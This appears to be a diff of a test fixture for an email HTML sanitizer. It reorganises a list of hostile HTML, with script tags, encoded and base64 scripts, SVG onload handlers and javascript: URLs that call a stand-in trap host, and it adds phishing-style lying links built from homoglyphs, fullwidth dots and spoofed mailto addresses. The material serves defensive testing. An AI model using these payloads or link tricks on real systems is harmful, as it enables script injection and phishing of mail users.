@@ -1,17 +1,14 @@
-/** Where hostile mail tries to reach; the test maps it to a server of its own that counts. */
-export const TRAP = 'http://trap.example';
+import { HOSTILE_KINDS } from './hostile-kinds.ts';
+import { RUN, RUN_URL, TRAP } from './hostile-words.ts';
 
-/** What hostile mail tries to run: each line of it would be seen. */
-const RUN = `top.hacked=1;parent.hacked=1;self.hacked=1;alert(1);new Image().src='${TRAP}/ran'`;
 const RUN_ENTITIES = RUN.replaceAll(/./gu, (char) => `&#${char.codePointAt(0) ?? 0};`);
-const RUN_URL = `javascript:${encodeURIComponent(RUN)}`;
 const PAGE = `<script>${RUN}</script>`;
 const PAGE_BASE64 = Buffer.from(PAGE).toString('base64');
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${TRAP}/svg"/></svg>`;
 const SVG_BASE64 = Buffer.from(SVG).toString('base64');
 
-/** HTML as strangers with bad intent send it, by what it tries. */
-export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [
+/** HTML as strangers with bad intent send it, by what it tries; by hand, where it has to be put together. */
+const BY_HAND: readonly (readonly [name: string, html: string])[] = [
   // Scripts
   ['script', `<script>${RUN}</script>`],
   ['script from elsewhere', `<script src="${TRAP}/a.js"></script>`],
@@ -221,6 +218,9 @@ export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = 
   ],
 ];
 
+/** All of it, some two hundred and sixty. */
+export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [...BY_HAND, ...HOSTILE_KINDS];
+
 /** Links whose words say another place than the one they lead to, and honest ones. */
 export const LYING_LINKS: readonly (readonly [href: string, words: string])[] = [
   ['https://evil.example/1', 'https://bank.example/login'],
@@ -231,6 +231,15 @@ export const LYING_LINKS: readonly (readonly [href: string, words: string])[] = 
   ['https://bank.example@evil.example/6', 'Sign in'],
   ['https://evil.example/7', 'https://ba\u200bnk.example/'],
   ['https://evil.example/8', '\u202ehttps://bank.example/\u202c'],
+  // Letters that look like others, dots that are none, and an address of mail that leads to a page or to somebody else.
+  ['https://xn--bnk-6cd.example/9', 'https://bank.example'],
+  ['https://xn--bnk-6cd.example/10', 'bank.example'],
+  ['https://evil.example/11', 'bank\uff0eexample'],
+  ['https://evil.example/12', '\uff42ank.example'],
+  ['https://evil.example/13', 'https://bank\u3002example/'],
+  ['https://evil.example/14', 'ann@bank.example'],
+  ['mailto:ann@evil.example', 'ann@bank.example'],
+  ['https://evil.example/15', 'See https://bank.example/login'],
 ];
 export const HONEST_LINKS: readonly (readonly [href: string, words: string])[] = [
   ['https://bank.example/a', 'https://bank.example/a'],
@@ -238,6 +247,8 @@ export const HONEST_LINKS: readonly (readonly [href: string, words: string])[] =
   ['https://jobs.bank.example/c', 'www.bank.example'],
   ['https://bank.example/d', 'See our other openings'],
   ['mailto:ann@bank.example', 'ann@bank.example'],
+  ['mailto:bea@bank.example', 'Write to Bea'],
+  ['https://xn--bcher-kva.example/e', 'b\u00fccher.example'],
 ];
 
 /** Payloads that may swallow what stands behind them: each is the last of its letter. */
